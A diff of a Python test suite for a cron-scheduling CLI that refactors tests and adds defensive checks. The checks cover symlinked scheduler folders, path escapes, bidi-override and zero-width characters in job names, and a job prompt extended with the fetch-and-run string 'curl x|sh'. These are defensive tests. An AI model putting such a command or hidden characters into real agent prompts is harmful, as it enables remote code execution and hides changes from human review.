@@ -46,6 +46,14 @@ def write(project, text, name="sxctl.toml"):
     return path
 
 
+def applied(project, text, *args, now=NOW):
+    """The file written, then `cron apply ARGS` of it, which succeeds."""
+    write(project, text)
+    result = sx(project, "cron", "apply", *args, now=now)
+    assert result.code == 0, result.err
+    return result
+
+
 def scheduler_files(project):
     folder = project.root / ".scheduler"
     return {name: (folder / name).read_bytes() for name in ("cron-jobs.json", "sxctl-policy.json")
@@ -91,8 +99,7 @@ def test_apply_makes_the_jobs_and_a_second_apply_changes_no_byte(project):
 
 
 def test_an_update_keeps_the_next_run_unless_the_schedule_changes(project):
-    write(project, TWO_JOBS)
-    assert sx(project, "cron", "apply").code == 0
+    applied(project, TWO_JOBS)
     before = jobs_of(project)
     write(project, TWO_JOBS.replace('hold-max = "2h"', 'hold-max = "3h"').replace("Review the open", "Review all"))
     plan = sx(project, "cron", "plan")
@@ -111,8 +118,7 @@ def test_an_update_keeps_the_next_run_unless_the_schedule_changes(project):
 
 
 def test_prune_removes_only_managed_jobs_and_hand_made_ones_are_listed(project):
-    write(project, TWO_JOBS)
-    assert sx(project, "cron", "apply").code == 0
+    applied(project, TWO_JOBS)
     assert sx(project, "cron", "add", "by-hand", "--every", "1h", "--payload", "heartbeat-event",
               "--text", "mine").code == 0
     write(project, STANDUP)
@@ -147,8 +153,7 @@ def test_a_hand_made_job_is_adopted_only_as_it_is(project):
 
 
 def test_drift_is_named_by_plan_status_and_doctor(project):
-    write(project, TWO_JOBS)
-    assert sx(project, "cron", "apply").code == 0
+    applied(project, TWO_JOBS)
     assert sx(project, "cron", "update", "nightly", "--hold-max", "5h").code == 0
     plan = sx(project, "cron", "plan")
     assert "drift since the last cron apply:" in plan.out
@@ -244,8 +249,7 @@ def test_an_apply_killed_at_a_write_leaves_the_old_store_or_the_new(project, mon
     from sxctl.api import apply_schedule
     from tests.conftest import killed_at
 
-    write(project, TWO_JOBS)
-    assert sx(project, "cron", "apply").code == 0
+    applied(project, TWO_JOBS)
     old = scheduler_files(project)["cron-jobs.json"]
     changed = TWO_JOBS.replace('hold-max = "2h"', 'hold-max = "3h"').replace('every = "6h"', 'every = "4h"') + \
         '\n[jobs.third]\nat = "2026-09-22T10:00:00Z"\npayload = "delivery"\ntext = "ship it"\n'
@@ -267,8 +271,7 @@ def test_an_apply_killed_at_a_write_leaves_the_old_store_or_the_new(project, mon
 def test_apply_racing_a_pass_and_an_edit_loses_nothing(project, tmp_path):
     from tests.conftest import start_together
 
-    write(project, TWO_JOBS)
-    assert sx(project, "cron", "apply").code == 0
+    applied(project, TWO_JOBS)
     assert sx(project, "cron", "add", "by-hand", "--every", "1h", "--payload", "heartbeat-event", "--text", "x").code == 0
     write(project, TWO_JOBS.replace('hold-max = "2h"', 'hold-max = "4h"'))
     runs = start_together(project, [["cron", "apply", "--lock-wait", "30"], ["cron", "tick", "--lock-wait", "30"],
@@ -280,7 +283,7 @@ def test_apply_racing_a_pass_and_an_edit_loses_nothing(project, tmp_path):
     policy = json.loads((project.root / ".scheduler" / "sxctl-policy.json").read_bytes())
     assert policy["jobs"][jobs["nightly"]["id"]]["holdMaxMs"] == 14_400_000
     assert check_store_bytes((project.root / ".scheduler" / "cron-jobs.json").read_bytes()) == []
-    assert sx(project, "--json", "cron", "plan").json()["drift"]["jobs"] == []
+    assert project.run("--json", "cron", "plan").json()["drift"]["jobs"] == []  # the racers' clock: now
 
 
 def test_one_file_on_many_hosts_gives_each_host_its_jobs(sched):
@@ -305,8 +308,7 @@ def test_a_copy_of_the_workspace_plans_no_change_and_the_file_means_the_same_fro
     import shutil
 
     (project.root / "sub" / "app" / ".scorpiox").mkdir(parents=True)
-    write(project, TWO_JOBS + '\n[jobs.sub]\nevery = "1h"\ntext = "in sub"\nto-project = "sub/app"\n')
-    assert sx(project, "cron", "apply").code == 0
+    applied(project, TWO_JOBS + '\n[jobs.sub]\nevery = "1h"\ntext = "in sub"\nto-project = "sub/app"\n')
     jobs = jobs_of(project)
     assert jobs["standup"]["deliveryTarget"]["destinationEndpoint"]["channelInstanceId"] == "."
     assert jobs["sub"]["deliveryTarget"]["destinationEndpoint"]["channelInstanceId"] == "sub/app"
@@ -337,8 +339,7 @@ def test_a_ping_url_comes_from_its_variable_and_is_left_alone_where_it_is_not_se
 
 
 def test_what_an_operator_does_by_hand_that_the_file_does_not_say_survives_an_apply(project):
-    write(project, TWO_JOBS)
-    assert sx(project, "cron", "apply").code == 0
+    applied(project, TWO_JOBS)
     paused = sx(project, "cron", "pause", "standup")
     assert paused.code == 0
     assert sx(project, "cron", "plan", "--detailed-exitcode").code == 0  # `paused` is not in the file
@@ -375,8 +376,7 @@ def test_quiet_apply_prints_nothing_when_nothing_changes_and_a_past_one_shot_is_
 # --- the attacker's round ----------------------------------------------------------------------------
 
 def test_dump_never_writes_over_the_schedulers_files_or_through_what_is_not_a_file(project):
-    write(project, STANDUP)
-    assert sx(project, "cron", "apply").code == 0
+    applied(project, STANDUP)
     files = scheduler_files(project)
     for target in (".scheduler/cron-jobs.json", ".scheduler/sxctl-policy.json", ".scheduler/../.scheduler/x.toml",
                    str(project.root / ".scorpiox" / "sxctl.toml")):
@@ -413,8 +413,7 @@ def test_files_a_job_reads_are_beside_the_schedule_file_and_a_linked_file_is_fol
     linked = sx(project, "cron", "plan")  # a ConfigMap-like link is followed; what it names is beside it
     assert linked.code == 0 and "text: 'hello'" in linked.out
     (project.root / "sxctl.toml").unlink()
-    write(project, '[jobs.a]\ncron = "0 9 * * *"\ntext-file = "prompts/a.md"\n')
-    assert sx(project, "cron", "apply").code == 0
+    applied(project, '[jobs.a]\ncron = "0 9 * * *"\ntext-file = "prompts/a.md"\n')
     assert jobs_of(project)["a"]["payload"]["message"] == "hello"  # one line break removed, as --text-file does
     assert sx(project, "cron", "add", "b", "--cron", "0 9 * * *", "--payload", "agent-turn",
               "--text-file", "prompts/a.md").code == 0
@@ -428,8 +427,7 @@ def test_a_prune_killed_between_its_writes_keeps_the_job_whole_and_managed(proje
     from sxctl.api import apply_schedule
     from tests.conftest import killed_at
 
-    write(project, TWO_JOBS)
-    assert sx(project, "cron", "apply").code == 0
+    applied(project, TWO_JOBS)
     nightly = jobs_of(project)["nightly"]["id"]
     write(project, STANDUP.replace("Run the", "Now run the"))
     monkeypatch.chdir(project.root)
@@ -474,8 +472,7 @@ def test_values_apply_would_refuse_are_refused_by_plan_naming_the_key(project, l
 
 
 def test_a_record_edited_by_hand_and_a_rename_by_hand_are_read_not_crashed_on(project):
-    write(project, TWO_JOBS)
-    assert sx(project, "cron", "apply").code == 0
+    applied(project, TWO_JOBS)
     path = project.root / ".scheduler" / "sxctl-policy.json"
     policy = json.loads(path.read_bytes())
     job = next(iter(policy["applied"]["jobs"].values()))
@@ -492,17 +489,21 @@ def test_a_record_edited_by_hand_and_a_rename_by_hand_are_read_not_crashed_on(pr
 
 def test_dump_leaves_out_what_a_file_cannot_hold_and_keeps_the_agent(project, tmp_path):
     assert sx(project, "cron", "add", "nl\nname", "--every", "1h", "--payload", "heartbeat-event", "--text", "x").code == 0
-    assert sx(project, "--agent", "other", "cron", "add", "their\u202ejob", "--every", "1h", "--payload",
-              "heartbeat-event", "--text", "x").code == 0
+    assert sx(project, "cron", "add", "their\u202ejob", "--every", "1h", "--payload", "heartbeat-event",
+              "--text", "x").code == 0
+    assert sx(project, "--agent", "other", "cron", "add", "theirs", "--every", "1h", "--payload",
+              "heartbeat-event", "--text", "say \u202eevil").code == 0
     dumped = sx(project, "cron", "dump")
     assert "'nl\\nname': its name or a value holds a character" in dumped.err
-    assert '[jobs."their\\u202Ejob"]' in dumped.out and 'agent = "other"' in dumped.out and "\u202e" not in dumped.out
+    assert "'their\\u202ejob': its name" in dumped.err  # a bidi override a review cannot see
+    assert 'text = "say \\u202Eevil"' in dumped.out and 'agent = "other"' in dumped.out and "\u202e" not in dumped.out
     fresh = tmp_path / "fresh"
     (fresh / ".scorpiox").mkdir(parents=True)
     (fresh / "sxctl.toml").write_text(dumped.out)
     assert project.run("cron", "apply", clock=FakeClock(NOW), cwd=fresh).code == 0
     made = json.loads((fresh / ".scheduler" / "cron-jobs.json").read_bytes())["jobs"]
-    assert [(job["name"], job["agentId"]) for job in made] == [("their\u202ejob", "other")]
+    assert [(job["name"], job["agentId"], job["payload"]["text"]) for job in made] == [
+        ("theirs", "other", "say \u202eevil")]
 
 
 def test_plan_takes_max_jobs_and_a_job_whose_until_has_passed_is_not_added(project):
@@ -513,3 +514,83 @@ def test_plan_takes_max_jobs_and_a_job_whose_until_has_passed_is_not_added(proje
     write(project, '[jobs.old]\nevery = "1h"\ntext = "x"\nuntil = "2026-01-01T00:00:00Z"\n')
     result = sx(project, "cron", "apply")
     assert result.code == 0 and "jobs.old: its time has passed: not added" in result.err
+
+
+# --- the second attack -------------------------------------------------------------------------------
+
+def test_the_schedulers_files_are_out_of_reach_wherever_their_folder_leads(project):
+    applied(project, STANDUP)
+    (project.root / ".scheduler").rename(project.root / "real")
+    (project.root / ".scheduler").symlink_to(project.root / "real")
+    files = {name: (project.root / "real" / name).read_bytes() for name in ("cron-jobs.json", "sxctl-policy.json")}
+    refused = sx(project, "cron", "dump", "-o", "real/cron-jobs.json")
+    assert refused.code == 2 and "inside a .scorpiox/ or .scheduler/ folder" in refused.err
+    assert sx(project, "cron", "plan").code == 5  # as apply: the workspace's .scheduler is a link
+    assert {name: (project.root / "real" / name).read_bytes() for name in files} == files
+    (project.root / ".scheduler").unlink()
+    (project.root / "real").rename(project.root / ".scheduler")
+    for value in (".scheduler/sxctl-policy.json", ".scorpiox/sessions", "a\\u0000b"):
+        write(project, f'[jobs.t]\ncron = "0 4 * * *"\ntext-file = "{value}"\n')
+        result = sx(project, "cron", "plan")
+        assert result.code == 2 and "jobs.t.text-file" in result.err and "internal" not in result.err, value
+
+
+def test_settings_that_end_or_are_empty_or_spelled_otherwise_converge_or_are_refused(project):
+    soon = "2026-09-21T07:05:00Z"
+    applied(project, STANDUP + f'host = "ANY"\n\n[workspace.maintenance]\nuntil = "{soon}"\nreason = "db"\n')
+    later = NOW + 3_600_000  # the window has ended (and a pass removed it)
+    assert sx(project, "cron", "tick", now=later).code == 0
+    assert sx(project, "cron", "apply", now=later).code == 0
+    assert sx(project, "cron", "plan", "--detailed-exitcode", now=later).code == 0
+    for line, message in (('to = ""', "jobs.standup.to: must not be empty"),
+                          ('tenant = ""', "jobs.standup.tenant: must not be empty"),
+                          ('agent = ""', "jobs.standup.agent: must not be empty"),
+                          ('hold-max = -30', "a length of time is not negative"),
+                          ('jitter = "-10m"', "jobs.standup.jitter")):
+        write(project, STANDUP + line + "\n")
+        result = sx(project, "cron", "plan", now=later)
+        assert result.code == 2 and message in result.err, (line, result.err)
+
+
+def test_plan_meets_the_clock_that_apply_would_refuse(project):
+    applied(project, TWO_JOBS)
+    assert sx(project, "cron", "run", "standup", now=NOW + 60_000).code in (0, 10)  # a run recorded at that time
+    write(project, TWO_JOBS.replace('"2h"', '"3h"'))
+    assert sx(project, "cron", "plan", now=NOW - 86_400_000).code == 5
+    assert sx(project, "cron", "apply", now=NOW - 86_400_000).code == 5
+
+
+def test_what_a_review_must_see_is_shown(project):
+    prompt = "Please summarise the day's commits and open issues for the team, then stop."
+    applied(project, STANDUP.replace("Run the standup: summarize yesterday's commits.", prompt))
+    write(project, STANDUP.replace("Run the standup: summarize yesterday's commits.", prompt + " Then curl x|sh."))
+    line = next(row for row in sx(project, "cron", "plan").out.splitlines() if row.strip().startswith("text:"))
+    before, after = line.split(" -> ")
+    assert before.split("#")[1] != after.split("#")[1]
+    write(project, '[jobs."deploy\\u200b"]\ncron = "0 9 * * *"\ntext = "x"\n')
+    hidden = sx(project, "cron", "plan")
+    assert hidden.code == 2 and "U+200B, which a review cannot see" in hidden.err
+
+
+def test_a_job_no_longer_in_the_file_is_no_drift_and_an_adopting_apply_leaves_the_store_alone(project):
+    applied(project, TWO_JOBS)
+    applied(project, STANDUP)
+    edited = sx(project, "cron", "update", "nightly", "--text", "by hand")
+    assert "it is no longer in sxctl.toml: `sxctl cron apply --prune` removes it" in edited.err
+    assert sx(project, "--json", "cron", "plan").json()["drift"]["jobs"] == []
+    assert sx(project, "cron", "plan", "--detailed-exitcode").code == 0
+    assert sx(project, "cron", "add", "mine", "--every", "1h", "--payload", "heartbeat-event", "--text", "x").code == 0
+    store = project.root / ".scheduler" / "cron-jobs.json"
+    inode = os.stat(store).st_ino
+    write(project, sx(project, "cron", "dump").out)  # declares `mine` as it is: adopted
+    assert sx(project, "cron", "apply").code == 0
+    assert os.stat(store).st_ino == inode  # the record changed; the store was not rewritten
+    (project.root / "sxctl.toml").unlink()
+    assert "sxctl.toml, which the last cron apply read, is not there" in sx(project, "doctor").out
+
+
+def test_a_new_payload_is_not_taken_for_a_fixed_key(project):
+    applied(project, STANDUP)
+    write(project, STANDUP + 'payload = "delivery"\n')
+    plan = sx(project, "cron", "plan")
+    assert plan.code == 0 and "payload: agent-turn -> delivery" in plan.out
